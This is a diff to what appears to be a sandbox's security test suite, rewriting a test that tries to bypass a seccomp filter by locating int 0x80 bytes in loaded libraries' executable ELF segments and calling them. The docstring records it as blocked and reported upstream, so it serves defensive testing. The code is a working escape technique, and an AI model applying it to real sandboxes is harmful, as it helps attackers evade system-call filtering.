@@ -1414,16 +1414,34 @@ def use_event_descriptors(host):
 
 @attack("kernel surface", ends="denied")
 def enter_through_the_32_bit_gate(host):
-    """Tries: int 0x80, found as two bytes in the C library's code.
+    """Tries: int 0x80, found as two bytes in the code of whatever library has them.
     Blocked: the filter checks the architecture first.
     Reported: rust-vmm/seccompiler#74"""
     ctypes = module("ctypes")
-    start = ctypes.cast(libc().read, ctypes.c_void_p).value & ~4095
-    for page in range(start - 400_000, start + 400_000, 4096):
-        found = ctypes.string_at(page, 4096).find(b"\xcd\x80")
-        if found >= 0:
-            ctypes.CFUNCTYPE(ctypes.c_int)(page + found)()
-            return True
+
+    def number(kind, at):
+        return kind.from_address(at).value
+
+    # The handle of a library is its entry in the loader's list: where it begins, and 24 bytes on, the next one.
+    library = ctypes.CDLL(None)._handle
+    while library:
+        base, library = number(ctypes.c_uint64, library), number(ctypes.c_uint64, library + 24)
+        if not base or ctypes.string_at(base, 4) != b"\x7fELF":
+            continue
+        first, size, count = (
+            number(ctypes.c_uint64, base + 32),
+            number(ctypes.c_uint16, base + 54),
+            number(ctypes.c_uint16, base + 56),
+        )
+        for header in range(base + first, base + first + size * count, size):
+            kind, flags = number(ctypes.c_uint32, header), number(ctypes.c_uint32, header + 4)
+            if (kind, flags & 1) != (1, 1):
+                continue
+            code = base + number(ctypes.c_uint64, header + 16)
+            found = ctypes.string_at(code, number(ctypes.c_uint64, header + 32)).find(b"\xcd\x80")
+            if found >= 0:
+                ctypes.CFUNCTYPE(ctypes.c_int)(code + found)()
+                return True
 
 
 @attack("kernel surface")
